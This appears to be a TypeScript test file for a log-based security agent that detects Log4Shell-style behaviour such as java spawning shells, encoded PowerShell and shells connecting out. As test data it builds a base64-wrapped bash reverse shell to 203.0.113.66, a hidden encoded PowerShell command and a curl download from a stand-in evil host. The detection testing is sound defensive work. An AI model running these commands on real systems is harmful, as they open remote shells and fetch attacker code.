import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { type EventOf, events, IncidentItem } from '@edgebeat/core';
import { eventOf, line } from '../ingest/intake.test.kit';
import {
  audit,
  columns,
  shellOfJava,
  sysmonXml,
  vmConnection,
  windowsSecurity,
} from '../ingest/host-records/samples.test.kit';
import { runKeyed } from '../runtime';
import { compileRules } from '../sigma';
import { shippedRules } from '../site/shipped-rules';
import { createSecurityAgent } from './agent';
import { notarise } from './incident-item';
import { SecuritySettings } from './settings';

const rules = compileRules(shippedRules().detections.filter((one) => 'detection' in one));
const context = { settings: SecuritySettings.parse({}), source: 'urn:test:security' };
const keys = {
  saltKey: new Uint8Array(32).fill(1),
  channelKey: { epoch: 1, key: new Uint8Array(32).fill(2) },
  siteId: 'a-1',
};

function start() {
  return runKeyed(createSecurityAgent(rules), context, 1000);
}

function log(text: string, position = '0'): EventOf<'LogReceived'> {
  return events.LogReceived.parse(eventOf(line(text, { format: 'auto', position })));
}

function incidents(texts: readonly string[]) {
  const run = start();
  return texts.flatMap((text, n) => run.handle(log(text, String(n))));
}

const reverseShell = Buffer.from('bash -i >& /dev/tcp/203.0.113.66/443 0>&1\n').toString('base64');
const payload = `bash -c {echo,${reverseShell}}|{base64,-d}|{bash,-i}`;
const script = `$u='${Buffer.from('http://203.0.113.66:443', 'utf16le').toString('base64')}'`;
const encoded = `powershell.exe -NonI -W Hidden -Enc ${Buffer.from(script, 'utf16le').toString('base64')}`;

describe('security agent by rules', () => {
  it('given a record of a provider that is called like what every object has, when rules look at it, then they find nothing', () => {
    const text = sysmonXml(1, shellOfJava).replace('Name="Linux-Sysmon"', 'Name="constructor"');

    expect(incidents([text])).toEqual([]);
  });

  it.each([
    ['java starts a shell', sysmonXml(1, shellOfJava), 'java-starts-shell', []],
    [
      'java wants a shell',
      audit({ exe: '/usr/bin/java', name: '/bin/bash', success: 'no' }),
      'java-starts-shell',
      [],
    ],
    ['java asks a directory', vmConnection(), 'java-directory-lookup', ['203.0.113.66']],
    [
      'java fetches code',
      vmConnection({ DestinationPort: 8888 }),
      'java-fetches-code',
      ['203.0.113.66'],
    ],
    [
      'a shell connects out',
      vmConnection({ ProcessName: 'bash', DestinationPort: 443 }),
      'shell-connects-out',
      ['203.0.113.66'],
    ],
    [
      'a shell decodes',
      columns(audit({ cmdline: payload }), 'auoms'),
      'shell-decodes-command',
      ['203.0.113.66'],
    ],
    [
      'java starts curl',
      sysmonXml(1, {
        ...shellOfJava,
        Image: '/usr/bin/curl',
        CommandLine: 'curl http://Evil.example.org/a',
      }),
      'java-downloads',
      ['evil.example.org'],
    ],
    [
      'PowerShell is encoded',
      windowsSecurity(
        4688,
        {},
        {
          EventData: undefined,
          NewProcessName: 'C:\\Windows\\powershell.exe',
          CommandLine: encoded,
        },
      ),
      'encoded-powershell',
      ['203.0.113.66'],
    ],
  ])(
    'given that %s, when it is handled, then one incident with evidence and indicators is opened',
    (_, text, type, indicators) => {
      const event = log(text);

      const [opened, ...more] = start().handle(event);

      expect(more).toEqual([]);
      const { data } = events.IncidentOpened.parse(opened);
      expect(data).toMatchObject({
        type,
        agent: 'security',
        evidence: { events: [event.id], total: 1 },
      });
      expect(data.evidence.hashes).toEqual([expect.stringMatching(/^[0-9a-f]{64}$/)]);
      expect(data.techniques.length).toBeGreaterThan(0);
      expect(data.details.indicators?.map(({ value }) => value)).toEqual(indicators);
    },
  );

  it.each([
    [
      'an inbound connection',
      vmConnection({ Direction: 'inbound', SourceIp: '203.0.113.66', DestinationPort: 8080 }),
    ],
    [
      'a lookup of names',
      vmConnection({ DestinationIp: '127.0.0.53', DestinationPort: 53, Protocol: 'udp' }),
    ],
    ['a lookup on its own machine', vmConnection({ DestinationIp: '127.0.0.1' })],
    ['a shell of a person', sysmonXml(1, { ...shellOfJava, ParentImage: '/usr/sbin/sshd' })],
    ['a program of java', sysmonXml(1, { ...shellOfJava, Image: '/usr/bin/java' })],
  ])('given %s, when it is handled, then it is none of its business', (_, text) => {
    expect(incidents([text])).toEqual([]);
  });

  it.each([
    'curl http://-.:80/ http://1.2.3.4.5/ https://999.1.1.1/ http://.../',
    `curl ${'A'.repeat(32_000)}`,
    `curl ${'QUFBQUFBQUFBQUFBQUFBQUFB '.repeat(1000)}`,
    `curl ${'http://a'.repeat(3000)}`,
  ])(
    'given a command line that is made to confuse, when it is handled, then its incident is opened all the same',
    (commandLine) => {
      const text = sysmonXml(1, {
        ...shellOfJava,
        Image: '/usr/bin/curl',
        CommandLine: commandLine,
      });

      const [opened] = start().handle(log(text));

      expect(events.IncidentOpened.parse(opened).data.type).toBe('java-downloads');
    },
  );

  it('given the same again, when it is handled, then the incident goes on, and ends when it is quiet', () => {
    const run = start();
    const emitted = [0, 1, 2, 3].flatMap((n) => run.handle(log(vmConnection(), String(n))));

    const early = run.tick('2026-01-31T10:20:00.000Z');
    const late = run.tick('2026-01-31T10:40:00.000Z');

    const told = [...emitted, ...early, ...late].map(({ type, data }) => [
      type.replace('io.edgebeat.Incident', ''),
      'state' in data ? data.state : 'open',
      data.evidence.total,
    ]);
    expect(told).toEqual([
      ['Opened', 'open', 1],
      ['Updated', 'ongoing', 2],
      ['Updated', 'ongoing', 4],
      ['Updated', 'ended', 4],
    ]);
    expect(run.keys()).toBe(0);
  });

  it('given a replay, when it is handled, then every event and its id are the same', () => {
    const texts = [
      vmConnection(),
      sysmonXml(1, shellOfJava),
      vmConnection({ DestinationPort: 8888 }),
    ];

    expect(incidents(texts)).toEqual(incidents(texts));
  });

  it('given very many attackers, when one host meets them, then its state stays bounded', () => {
    const texts = Array.from({ length: 100 }, (_, n) =>
      vmConnection({ DestinationIp: `203.0.113.${String(n)}` }),
    );

    const emitted = incidents(texts);

    const ended = emitted.filter(({ data }) => 'state' in data && data.state === 'ended');
    expect([emitted.length, ended.length]).toEqual([168, 68]);
  });

  it('given one indicator in other incidents, when they are notarised, then they share a key that tells nothing', () => {
    const items = incidents([vmConnection(), columns(audit({ cmdline: payload }), 'auoms')]).map(
      ({ data }) => IncidentItem.parse(notarise(data, keys).item),
    );

    const [first, second] = items.map(({ correlationKeys }) => correlationKeys);
    expect(first).toHaveLength(1);
    expect(second).toEqual(first);
    expect(JSON.stringify(items)).not.toContain('203.0.113.66');
  });

  it('given an incident without a rule, when it is notarised, then it is as it always was', () => {
    const incident = events.IncidentOpened.data.parse(events.IncidentOpened.example);

    const { commitment } = notarise(incident, keys).item;

    expect(commitment).toMatchInlineSnapshot(`
      {
        "leaves": 11,
        "root": "cfd8caee2bed3b759db57a4433b027714a4a9233c6387d3bb9d8be43afd0ff9f",
      }
    `);
  });
});

const data = process.env['EDGEBEAT_DATA'];
const recorded = data === undefined ? it.skip : it;

describe('security agent by rules over recordings', () => {
  function opened(file: string): string[] {
    const texts = readFileSync(file, 'utf8').trimEnd().split(/\r?\n/);
    return incidents(texts)
      .filter(({ type }) => type === events.IncidentOpened.type)
      .map(({ data: { type, details } }) => `${details.hosts[0] ?? ''} ${type} ${details.address}`);
  }

  recorded(
    'given the recordings of a Log4Shell attack of OTRF/Security-Datasets (needs EDGEBEAT_DATA), when they are read, then its steps are found, by address',
    () => {
      const folder = join(data ?? '', 'log4shell');
      const files = readdirSync(folder).filter((file) => file.endsWith('.json'));

      const found = files.flatMap((file) => opened(join(folder, file)));

      expect(found).toMatchInlineSnapshot(`
        [
          "WORKSTATION5 java-directory-lookup 192.168.3.5",
          "WORKSTATION5 encoded-powershell 192.168.3.5",
          "WORKSTATION5 java-starts-shell 192.168.3.5",
          "WORKSTATION5 powershell-connects-out 192.168.3.5",
          "UBUNTU5 java-starts-shell ",
          "UBUNTU5 shell-decodes-command 192.168.2.6",
          "UBUNTU5 java-directory-lookup 192.168.2.6",
          "UBUNTU5 java-fetches-code 192.168.2.6",
          "UBUNTU5 java-starts-shell 192.168.2.6",
          "UBUNTU5 shell-decodes-command 192.168.2.6",
          "UBUNTU5 shell-connects-out 192.168.2.6",
          "WORKSTATION5 encoded-powershell 192.168.3.5",
          "WORKSTATION5 java-starts-shell 192.168.3.5",
          "WORKSTATION5 java-directory-lookup 192.168.3.5",
          "WORKSTATION5 powershell-connects-out 192.168.3.5",
          "UBUNTU5 java-fetches-code 192.168.2.6",
          "UBUNTU5 java-directory-lookup 192.168.2.6",
          "UBUNTU5 shell-connects-out 192.168.2.6",
        ]
      `);
    },
  );

  recorded(
    'given 4,000 lines of logpai/loghub (needs EDGEBEAT_DATA), when they are read, then no rule finds anything in them',
    () => {
      const found = ['logs/openssh_2k.log', 'logs/linux_2k.log'].flatMap((file) =>
        opened(join(data ?? '', file)),
      );

      expect(found.filter((one) => !one.includes(' ssh-'))).toEqual([]);
    },
  );
});
